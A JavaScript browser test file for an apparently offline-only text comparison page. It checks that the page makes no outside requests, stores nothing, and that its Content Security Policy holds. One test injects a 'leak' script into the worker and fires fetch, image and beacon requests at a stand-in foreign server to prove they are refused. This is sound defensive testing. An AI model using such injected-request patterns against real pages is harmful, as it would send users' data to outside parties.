/** Nothing leaves the page: no request once it is ready, none to another origin ever, and the browser holds it to that. */
import assert from "node:assert/strict";
import { createServer } from "node:http";
import test, { after, afterEach, before } from "node:test";
import { openSample, paste, LONG, SHORT, start } from "./support.mjs";

let web;
before(async () => (web = await start()));
afterEach(() => web.done());
after(() => web.stop());

/** Everything that a person can do, in short. */
async function everything(page) {
  await openSample(page);
  await paste(page, LONG);
  await page.setInputFiles("#files", [
    { name: "a.txt", mimeType: "text/plain", buffer: Buffer.from(SHORT) },
    { name: "b.html", mimeType: "text/html", buffer: Buffer.from(`<p>${SHORT}</p><img src="http://other.example/x.png"><link rel=stylesheet href="http://other.example/x.css">`) },
  ]);
  await page.waitForFunction(() => document.querySelector("corroborate-view")?.comparison?.articles.length === 8);
  await page.locator(".card").nth(0).locator('[data-act="edit"]').click();
  await page.locator('.card [name="publisher"]').fill("Another");
  await page.locator(".card").nth(0).locator('[data-act="down"]').click();
  await page.locator(".card").nth(3).locator('[data-act="remove"]').click();
  await page.waitForFunction(() => document.querySelector("corroborate-view").comparison.articles.length === 7);
  await page.click("#tab-claims");
  await page.click("#tab-articles");
  await page.click("#tab-quotations");
  await page.locator(".saying .see.place").first().click();
  await page.waitForSelector("[data-target]");
  await page.keyboard.press("Escape");
  await page.waitForSelector(".sayings");
}

test("loading asks our own origin only, for our own files; once ready there is no request, also offline", async () => {
  const page = await web.page({ ready: false });
  const requests = [];
  page.context().on("request", (request) => requests.push(request.url()));
  await page.goto(web.origin);
  await page.waitForSelector('#status[data-state="ready"]');
  const loading = requests.splice(0);
  const foreign = loading.filter((url) => !url.startsWith(`${web.origin}/`) && !/^(blob|data):/.test(url));
  assert.deepEqual(foreign, []);
  assert.deepEqual(
    loading.filter((url) => url.startsWith("http")).map((url) => new URL(url).pathname).sort(),
    ["/", "/corroborate.wasm", "/page.css", "/page.js", "/worker.js"],
  );
  await page.context().setOffline(true);
  await everything(page);
  assert.deepEqual(requests.filter((url) => !/^(blob|data):/.test(url)), []);
});

test("the policy of the page alone, without a header, holds page and worker", async () => {
  // Somebody else's server, which would gladly take what it is sent.
  const heard = [];
  const other = createServer((request, response) => {
    heard.push(request.url);
    response.writeHead(200, { "access-control-allow-origin": "*" }).end("thanks");
  });
  await new Promise((resolve) => other.listen(0, "127.0.0.1", resolve));
  const elsewhere = `http://127.0.0.1:${other.address().port}/`;
  const leak = `self.addEventListener("securitypolicyviolation", (event) => { self.blocked = event.blockedURI; });
    self.tried = fetch("${elsewhere}?from=worker").then(() => "sent", () => "refused");\n`;
  const bare = await start({ headers: false, change: { "/worker.js": (text) => leak + text } });
  try {
    const page = await bare.page();
    const outcomes = await page.evaluate(async (url) => {
      const image = new Promise((resolve) => {
        const element = new Image();
        element.onload = element.onerror = () => resolve("over");
        element.src = `${url}?from=image`;
      });
      const sent = await fetch(`${url}?from=page`).then(() => "sent", () => "refused");
      await image;
      navigator.sendBeacon(`${url}?from=beacon`, "text");
      const attempt = (act) => {
        try {
          act();
          return "done";
        } catch {
          return "refused";
        }
      };
      return [
        sent,
        attempt(() => new Worker(URL.createObjectURL(new Blob(["1"])))),
        attempt(() => document.body.insertAdjacentHTML("beforeend", "<b>x</b>")),
        attempt(() => window.trustedTypes.createPolicy("mine", { createHTML: (html) => html })),
      ];
    }, elsewhere);
    assert.deepEqual(outcomes, ["refused", "refused", "refused", "refused"]);
    const [worker] = page.workers();
    assert.deepEqual(await worker.evaluate(async () => [await self.tried, self.blocked]), ["refused", `${elsewhere}?from=worker`]);
    await everything(page);
    assert.deepEqual(heard, []);
  } finally {
    await bare.stop();
    other.closeAllConnections();
    other.close();
  }
});

test("nothing is stored", async () => {
  const page = await web.page();
  await openSample(page);
  const kept = await page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    cookies: document.cookie,
    databases: (await indexedDB.databases()).length,
    caches: (await caches.keys()).length,
    workers: (await navigator.serviceWorker.getRegistrations()).length,
  }));
  assert.deepEqual(kept, { local: 0, session: 0, cookies: "", databases: 0, caches: 0, workers: 0 });
});
